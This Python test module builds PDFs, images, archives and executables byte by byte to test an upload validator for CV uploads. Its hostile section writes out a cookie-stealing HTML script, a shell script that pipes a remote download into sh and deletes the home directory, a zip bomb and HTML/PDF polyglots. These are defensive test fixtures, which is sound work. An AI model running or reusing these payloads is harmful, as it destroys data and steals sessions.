"""Real files for upload tests, built byte by byte so no office suite or image library is needed.

Every builder writes one file to the path it is given and returns that path. The office formats
live in filegen_office and are re-exported here, so tests need only this module.
"""

from __future__ import annotations

import gzip
import struct
import zlib
from pathlib import Path

from tests.filegen_office import (  # noqa: F401 - re-exported for tests
    CV_TEXT,
    make_biff_sheet,
    make_cfb,
    make_doc,
    make_doc_with_macros,
    make_docm_as_docx,
    make_docm_renamed_part,
    make_docx,
    make_docx_twice_typed,
    make_docx_with_content_types,
    make_macro_enabled,
    make_odf_rezipped,
    make_ods,
    make_odt,
    make_ppt,
    make_pptx,
    make_xls,
    make_xls_with_macros,
    make_xls_workbook,
    make_xlsx,
    write_zip,
)


def _write(path: Path, data: bytes) -> Path:
    """Write the bytes and hand the path back, so builders read as one expression in tests."""
    path.write_bytes(data)
    return path


# --- documents -------------------------------------------------------------------------------


def _pdf_string(text: str) -> bytes:
    """Text as a PDF literal string in WinAnsi, the encoding the page's font declares."""
    raw = text.encode("cp1252", errors="replace")
    return raw.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")


def _pdf_objects(text: str, compact: bool) -> list[bytes]:
    """Catalog, page tree, page, font and content stream; `compact` as LibreOffice writes them."""
    content = b"BT /F1 18 Tf 72 720 Td (" + _pdf_string(text) + b") Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]"
        b" /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
    ]
    if compact:
        objects = [
            o.replace(b"<< ", b"<<").replace(b" >>", b">>").replace(b" /", b"/") for o in objects
        ]
    return objects


def _xref_table(offsets: dict[int, int], eol: bytes) -> bytes:
    """A classic xref table: object 0 free, then one subsection per run of numbers."""
    rows = {0: b"0000000000 65535 f" + eol} | {
        n: b"%010d 00000 n" % at + eol for n, at in offsets.items()
    }
    out, numbers = bytearray(b"xref\n"), sorted(rows)
    while numbers:
        run = [numbers.pop(0)]
        while numbers and numbers[0] == run[-1] + 1:
            run.append(numbers.pop(0))
        out += b"%d %d\n" % (run[0], len(run)) + b"".join(rows[n] for n in run)
    return bytes(out)


def make_pdf(
    path: Path,
    text: str = CV_TEXT,
    *,
    xref: str = "table",
    eol: bytes = b" \n",
    compact: bool = False,
    startxref_error: int = 0,
    padding: int = 0,
    filler: int = 0,
) -> Path:
    """A one-page PDF with real text and exact xref offsets, as any reader expects.

    `xref="stream"` writes a PDF 1.5 cross-reference stream (as pdfTeX and Word do) instead of
    the classic table; `eol` is the end of each table entry (" \\n" or "\\r\\n" are the
    standard's, "\\n" alone a common mistake); `compact` spaces dictionaries as LibreOffice does;
    `startxref_error` makes the final offset that many bytes wrong, as some producers do.
    `padding` puts a comment of that many bytes after the header, `filler` adds that many
    empty objects: a large file with a long xref table.
    """
    objects = _pdf_objects(text, compact) + [b"<< >>"] * filler
    out = bytearray(b"%%PDF-%s\n%%\xe2\xe3\xcf\xd3\n" % (b"1.5" if xref == "stream" else b"1.4"))
    if padding:
        out += b"%" + b"x" * padding + b"\n"
    offsets = {}
    for number, body in enumerate(objects, start=1):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    size = len(objects) + 1
    if xref == "stream":
        offsets[size] = start
        rows = [(0, 0, 65535)] + [(1, offsets[n], 0) for n in range(1, size + 1)]
        data = zlib.compress(b"".join(struct.pack(">BIH", *row) for row in rows))
        out += (
            b"%d 0 obj\n<< /Size %d /Root 1 0 R /Type /XRef /W [1 4 2] /Index [0 %d]"
            b" /ID [<0123456789abcdef0123456789abcdef> <0123456789abcdef0123456789abcdef>]"
            b" /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream\nendobj\n"
            % (size, size + 1, size + 1, len(data), data)
        )
    else:
        trailer = b"<< /Size %d /Root 1 0 R >>" % size
        if compact:
            trailer = (
                b"<</Size %d/Root 1 0 R\n/ID [ <0123456789abcdef> <0123456789abcdef> ]\n>>" % size
            )
        out += _xref_table(offsets, eol) + b"trailer\n" + trailer + b"\n"
    out += b"startxref\n%d\n%%%%EOF\n" % (start + startxref_error)
    return _write(path, bytes(out))


def make_pdf_updated(path: Path, text: str = "Lebenslauf, zweite Fassung") -> Path:
    """A PDF saved again as an incremental update: a new content stream, a second xref section
    with two subsections and /Prev, a second startxref and %%EOF."""
    base = make_pdf(path).read_bytes()
    previous = int(base[base.rindex(b"startxref") + 10 :].split()[0])
    content = b"BT /F1 18 Tf 72 720 Td (" + _pdf_string(text) + b") Tj ET"
    update = bytearray(base)
    offset = len(update)
    update += b"5 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        len(content),
        content,
    )
    start = len(update)
    update += _xref_table({5: offset}, b" \n")
    update += b"trailer\n<< /Size 6 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        previous,
        start,
    )
    return _write(path, bytes(update))


def make_pdf_linearized(path: Path, text: str = CV_TEXT) -> Path:
    """A PDF laid out as "Fast Web View" writes it (ISO 32000-1 Annex F): the linearization
    dictionary and a first-page xref section at the start, whose startxref is 0, and at the end
    a main xref section whose startxref points back at the first-page section."""
    objects = _pdf_objects(text, False)
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    linearization = len(out)
    out += b"6 0 obj\n<< /Linearized 1 /L 0000000000 /O 3 /N 1 >>\nendobj\n"
    first_page = len(out)
    first_entry = len(out) + len(b"xref\n6 1\n")
    out += b"xref\n6 1\n%010d 00000 n \n" % linearization
    prev_at = len(out) + len(b"trailer\n<< /Size 7 /Root 1 0 R /Prev ")
    out += b"trailer\n<< /Size 7 /Root 1 0 R /Prev 0000000000 >>\nstartxref\n0\n%%EOF\n"
    assert out[first_entry : first_entry + 10] == b"%010d" % linearization
    offsets = {}
    for number, body in enumerate(objects, start=1):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    main = len(out)
    out[prev_at : prev_at + 10] = b"%010d" % main
    out += _xref_table(offsets, b" \n") + b"trailer\n<< /Size 6 >>\n"
    out += b"startxref\n%d\n%%%%EOF\n" % first_page
    length = b"%010d" % len(out)
    at = out.index(b"/L 0000000000") + 3
    out[at : at + 10] = length
    return _write(path, bytes(out))


def make_rtf(path: Path, text: str = CV_TEXT) -> Path:
    """An RTF document; non-ASCII letters as \\uN escapes, as word processors write them."""
    body = "".join(c if ord(c) < 128 else f"\\u{ord(c)}?" for c in text)
    return _write(
        path,
        ("{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}\\f0\\fs24 " + body + "\\par}\n").encode(),
    )


def make_txt(path: Path, text: str = CV_TEXT) -> Path:
    """A UTF-8 cover letter with umlauts."""
    letter = f"Sehr geehrte Damen und Herren,\n\nanbei meine Bewerbung.\n\nMit freundlichen Grüßen\n{text}\n"
    return _write(path, letter.encode())


def make_csv(path: Path) -> Path:
    """A small comma-separated table in UTF-8."""
    rows = ["Name,Position,Ort,Beginn", "Jürgen Müller,Entwickler,Köln,2025-01-01"]
    rows += [f"Person {n},Rolle {n},Stadt {n},2025-0{n}-01" for n in range(1, 6)]
    return _write(path, ("\n".join(rows) + "\n").encode())


# --- images ------------------------------------------------------------------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def make_png(path: Path, width: int = 4, height: int = 3) -> Path:
    """An RGB PNG with a colour gradient."""
    rows = b"".join(
        b"\0" + bytes(v for x in range(width) for v in (x * 60, y * 80, 128)) for y in range(height)
    )
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    png = (
        b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", zlib.compress(rows))
    )
    return _write(path, png + _png_chunk(b"IEND", b""))


def _segment(marker: int, payload: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(payload) + 2) + payload


def make_jpeg(path: Path) -> Path:
    """A baseline 8×8 grey JFIF: one Huffman code per table, one all-grey block."""
    one_code = bytes([1] + [0] * 15) + b"\0"  # one code of length 1 for symbol 0
    jpeg = (
        b"\xff\xd8"
        + _segment(0xE0, b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0")
        + _segment(0xDB, b"\0" + b"\x01" * 64)
        + _segment(0xC0, struct.pack(">BHHB", 8, 8, 8, 1) + b"\x01\x11\x00")
        + _segment(0xC4, b"\x00" + one_code)  # DC: category 0
        + _segment(0xC4, b"\x10" + one_code)  # AC: end of block
        + _segment(0xDA, b"\x01\x01\x00\x00\x3f\x00")
        + b"\x3f"  # bits 0 (DC diff 0), 0 (EOB), padded with ones
        + b"\xff\xd9"
    )
    return _write(path, jpeg)


def make_gif(path: Path) -> Path:
    """A 1×1 GIF89a with a two-colour palette."""
    return _write(
        path,
        b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\x00\x00\x00\x00\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;",
    )


def make_bmp(path: Path, width: int = 3, height: int = 2) -> Path:
    """A 24-bit Windows bitmap, rows bottom-up and padded to four bytes."""
    stride = (width * 3 + 3) & ~3
    rows = b"".join(
        b"".join(bytes((x * 80 % 256, y * 120 % 256, 200)) for x in range(width)).ljust(
            stride, b"\0"
        )
        for y in range(height)
    )
    info = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, len(rows), 2835, 2835, 0, 0)
    return _write(path, b"BM" + struct.pack("<IHHI", 14 + 40 + len(rows), 0, 0, 54) + info + rows)


def make_tiff(path: Path, width: int = 4, height: int = 2) -> Path:
    """A little-endian, uncompressed 8-bit greyscale baseline TIFF."""
    entries = [  # tag, type (3 SHORT, 4 LONG, 5 RATIONAL), value or offset
        (256, 3, width), (257, 3, height), (258, 3, 8), (259, 3, 1), (262, 3, 1),
        (273, 4, 0), (277, 3, 1), (278, 3, height), (279, 4, width * height),
        (282, 5, 0), (283, 5, 0), (296, 3, 2),
    ]  # fmt: skip
    ifd_size = 2 + 12 * len(entries) + 4
    resolution = 8 + ifd_size
    pixels = resolution + 8
    values = {273: pixels, 282: resolution, 283: resolution}
    ifd = struct.pack("<H", len(entries)) + b"".join(
        struct.pack("<HHII" if kind != 3 else "<HHIHxx", tag, kind, 1, values.get(tag, value))
        for tag, kind, value in entries
    )
    data = bytes((x * 60 + y * 30) % 256 for y in range(height) for x in range(width))
    return _write(
        path, b"II*\0" + struct.pack("<I", 8) + ifd + b"\0\0\0\0" + struct.pack("<II", 72, 1) + data
    )


# --- archives -----------------------------------------------------------------------------------


def make_zip(path: Path) -> Path:
    """A deflated zip with two documents in a folder."""
    parts = [
        ("Bewerbung/anschreiben.txt", "Guten Tag " * 50),
        ("Bewerbung/zeugnis.txt", "Note 1,0"),
    ]
    return write_zip(path, parts)


def make_gz(path: Path) -> Path:
    """A gzip stream of a text file, as `gzip cv.txt` writes it."""
    return _write(path, gzip.compress(("Zeugnis – sehr gut\n" * 20).encode(), mtime=0))


def _crc(data: bytes) -> int:
    return zlib.crc32(data) & 0xFFFFFFFF


def make_7z(path: Path, name: str = "cv.txt", data: bytes = b"Lebenslauf\n") -> Path:
    """A 7z archive holding one file with the Copy coder (sizes must stay below 128 bytes)."""
    raw_name = name.encode("utf-16-le") + b"\0\0"
    header = (
        b"\x01\x04"  # Header, MainStreamsInfo
        + b"\x06\x00\x01\x09" + bytes([len(data)]) + b"\x00"  # PackInfo: pos 0, 1 stream, size
        + b"\x07\x0b\x01\x00\x01\x01\x00"  # UnPackInfo: 1 folder, 1 coder, id 0x00 (Copy)
        + b"\x0c" + bytes([len(data)]) + b"\x00"  # CodersUnPackSize, End
        + b"\x08\x0a\x01" + struct.pack("<I", _crc(data)) + b"\x00"  # SubStreamsInfo: CRC
        + b"\x00"  # End of MainStreamsInfo
        + b"\x05\x01\x11" + bytes([len(raw_name) + 1]) + b"\x00" + raw_name  # FilesInfo: names
        + b"\x00\x00"  # End of FilesInfo, End of Header
    )  # fmt: skip
    start = struct.pack("<QQI", len(data), len(header), _crc(header))
    return _write(
        path, b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", _crc(start)) + start + data + header
    )


def _rar_block(kind: int, flags: int, body: bytes) -> bytes:
    """A RAR 4 block: CRC16 (low half of CRC32) over type, flags, size and body."""
    head = struct.pack("<BHH", kind, flags, 7 + len(body)) + body
    return struct.pack("<H", _crc(head) & 0xFFFF) + head


def make_rar(path: Path, name: str = "cv.txt", data: bytes = b"Lebenslauf\n") -> Path:
    """A RAR 4 archive with one stored file, the format WinRAR wrote until version 5."""
    file_head = struct.pack(
        "<IIBIIBBHI", len(data), len(data), 0, _crc(data), 0x58210000, 20, 0x30, len(name), 0x20
    )
    return _write(
        path,
        b"Rar!\x1a\x07\x00"
        + _rar_block(0x73, 0, b"\0" * 6)
        + _rar_block(0x74, 0x8000, file_head + name.encode())
        + data
        + _rar_block(0x7B, 0x4000, b""),
    )


def _vint(value: int) -> bytes:
    """A RAR 5 variable-length integer: 7 bits a byte, low first, high bit on all but the last."""
    out = bytearray()
    while True:
        out.append(value & 0x7F | (0x80 if value > 0x7F else 0))
        value >>= 7
        if not value:
            return bytes(out)


def _rar5_block(*fields: int, tail: bytes = b"") -> bytes:
    """A RAR 5 header: CRC32 over the size vint and the header, then the header."""
    body = b"".join(_vint(f) for f in fields) + tail
    sized = _vint(len(body)) + body
    return struct.pack("<I", _crc(sized)) + sized


def make_rar5(path: Path, name: str = "cv.txt", data: bytes = b"Lebenslauf\n") -> Path:
    """A RAR 5 archive (WinRAR 5 and later) with one stored file."""
    raw = name.encode()
    # type 2 (file), flags 0x2 (data area), data size, file flags 0x4 (CRC32), unpacked size,
    # attributes, CRC32, compression 0 (stored), host OS 1 (Unix), name length, name
    file_header = (
        _vint(2) + _vint(0x2) + _vint(len(data)) + _vint(0x4) + _vint(len(data)) + _vint(0o644)
        + struct.pack("<I", _crc(data)) + _vint(0) + _vint(1) + _vint(len(raw)) + raw
    )  # fmt: skip
    sized = _vint(len(file_header)) + file_header
    return _write(
        path,
        b"Rar!\x1a\x07\x01\x00"
        + _rar5_block(1, 0, 0)  # main archive header: no flags, no archive flags
        + struct.pack("<I", _crc(sized))
        + sized
        + data
        + _rar5_block(5, 0, 0),  # end of archive
    )


# --- hostile and edge cases ---------------------------------------------------------------------


def make_elf(path: Path) -> Path:
    """A 64-bit Linux executable header with one program header (what `file` calls an ELF)."""
    ehdr = (
        b"\x7fELF\x02\x01\x01"
        + b"\0" * 9
        + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x400078, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    )
    code = b"\x31\xff\xb8\x3c\x00\x00\x00\x0f\x05"  # exit(0)
    phdr = struct.pack(
        "<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 120 + len(code), 120 + len(code), 0x1000
    )
    return _write(path, ehdr + phdr + code)


def make_pe(path: Path) -> Path:
    """A Windows PE32 executable header: MZ stub pointing at a PE signature and optional header."""
    dos = b"MZ" + b"\0" * 58 + struct.pack("<I", 0x40)
    coff = b"PE\0\0" + struct.pack("<HHIIIHH", 0x14C, 0, 0, 0, 0, 0xE0, 0x0102)
    optional = struct.pack("<HBB", 0x10B, 14, 0).ljust(0xE0, b"\0")
    return _write(path, dos + coff + optional)


def make_html(path: Path) -> Path:
    """An HTML page with a script, the classic file to rename to .pdf or .txt."""
    page = "<!DOCTYPE html>\n<html><head><title>CV</title><script>fetch('/steal?c='+document.cookie)</script></head>"
    return _write(path, (page + "<body><p>Lebenslauf</p></body></html>\n").encode())


def make_shell_script(path: Path) -> Path:
    """A shell script, which must not pass as a text file."""
    return _write(path, b"#!/bin/sh\ncurl -s https://example.invalid/x | sh\nrm -rf ~/\n")


def make_plain_zip_as_docx(path: Path) -> Path:
    """A zip that is not an OOXML package, to be uploaded under a .docx name."""
    return write_zip(path, [("document.txt", "not a word document " * 20)])


def make_pdf_lookalike(path: Path) -> Path:
    """Starts like a PDF and is nothing more: no objects, no trailer, no %%EOF."""
    return _write(path, b"%PDF-1.7\nThis is just text pretending to be a PDF.\n")


def make_binary_txt(path: Path) -> Path:
    """Text for 77 KB, then NUL bytes: libmagic judges text on the first 64 KiB only."""
    return _write(path, b"Lebenslauf\n" * 7000 + b"\0\x01\x02\x03" * 64)  # libmagic reads 64 KiB


def make_empty(path: Path) -> Path:
    """A zero-byte file."""
    return _write(path, b"")


def make_sized(path: Path, size: int) -> Path:
    """A sparse file of `size` bytes: instant to create, no disk used."""
    with path.open("wb") as fh:
        fh.truncate(size)
    return path


def _raw_zip(entries: list[tuple[str, bytes, int, int]], base: int = 0) -> bytes:
    """A zip from (name, payload, method, declared size) with sizes we choose, true or not.

    `base` shifts every recorded offset, as `zip -A` does for an archive behind an exe stub.
    """
    local, central = bytearray(), bytearray()
    for name, payload, method, declared in entries:
        raw = name.encode()
        fields = struct.pack(
            "<HHHHHIII", 20, 0, method, 0, 0x21, _crc(payload), len(payload), declared
        )
        offset = struct.pack("<HHHHHII", len(raw), 0, 0, 0, 0, 0, base + len(local))
        central += b"PK\x01\x02\x14\x00" + fields + offset + raw
        local += b"PK\x03\x04" + fields + struct.pack("<HH", len(raw), 0) + raw + payload
    count, cd_size, cd_offset = len(entries), len(central), base + len(local)
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, cd_size, cd_offset, 0)
    return bytes(local + central + end)


def make_zip_bomb(path: Path) -> Path:
    """A 10 KiB zip in a zip whose entries claim 4 GiB each: harmless unless someone inflates it."""
    zeros = zlib.compressobj(9, zlib.DEFLATED, -15)
    bomb = zeros.compress(b"\0" * (4 << 20)) + zeros.flush()
    inner = _raw_zip([(f"part{n}.bin", bomb, 8, 0xFFFFFFF0) for n in range(2)])
    return _write(
        path, _raw_zip([("inner.zip", inner, 0, len(inner)), ("huge.bin", bomb, 8, 0xFFFFFFF0)])
    )


def make_zip_many_entries(path: Path, count: int) -> Path:
    """A valid zip of `count` empty files: a directory too long to be worth parsing."""
    return _write(path, _raw_zip([(f"f{n}.txt", b"", 0, 0) for n in range(count)]))


def make_sfx_zip(path: Path) -> Path:
    """A Windows executable with a zip behind it, offsets adjusted: a self-extracting archive.

    libmagic 5.44 calls it application/zip, and unzip tools (Python's zipfile too) open it.
    """
    stub = make_pe(path).read_bytes()
    return _write(path, stub + _raw_zip([("setup.txt", b"run me", 0, 6)], base=len(stub)))


def make_html_pdf_polyglot(path: Path) -> Path:
    """An HTML page with a PDF after it: libmagic 5.44 still says application/pdf."""
    pdf = make_pdf(path).read_bytes()
    return _write(
        path, b"<html><body><script>alert(document.domain)</script></body></html>\n" + pdf
    )


def make_utf16_txt(path: Path) -> Path:
    """UTF-16 text with BOM, as Notepad's "Unicode" writes it: libmagic says text/plain."""
    return _write(
        path, "Sehr geehrte Damen und Herren,\nmit freundlichen Grüßen\n".encode("utf-16")
    )


def make_pdf_shell(path: Path, kind: str = "html") -> Path:
    """A PDF header, then an HTML page or a shell script, then %%EOF: no object, no xref."""
    inner = make_html(path) if kind == "html" else make_shell_script(path)
    return _write(path, b"%PDF-1.4\n" + inner.read_bytes() + b"%%EOF\n")


def make_pdf_fake_startxref(path: Path) -> Path:
    """An HTML page between a PDF header and a startxref that points into the page."""
    page = make_html(path).read_bytes()
    return _write(path, b"%PDF-1.4\n" + page + b"startxref\n9\n%%EOF\n")


def make_rar_html(path: Path, version: int = 4) -> Path:
    """A RAR signature in front of an HTML page."""
    signature = b"Rar!\x1a\x07\x00" if version == 4 else b"Rar!\x1a\x07\x01\x00"
    return _write(path, signature + make_html(path).read_bytes())


def make_text(path: Path, text: str, encoding: str = "utf-8") -> Path:
    """Text in an encoding; "utf-16" writes a BOM, as Notepad's and Excel's "Unicode text" do."""
    return _write(path, text.encode(encoding))


def make_pdf_padded(path: Path, nul: int = 20_000, prefix: bytes = b"", **options: object) -> Path:
    """A PDF followed by NUL bytes after %%EOF, as Selenium's print-to-PDF leaves it; `prefix`
    glues something (an executable, a page) in front."""
    pdf = make_pdf(path, **options).read_bytes()  # type: ignore[arg-type]
    return _write(path, prefix + pdf + bytes(nul))
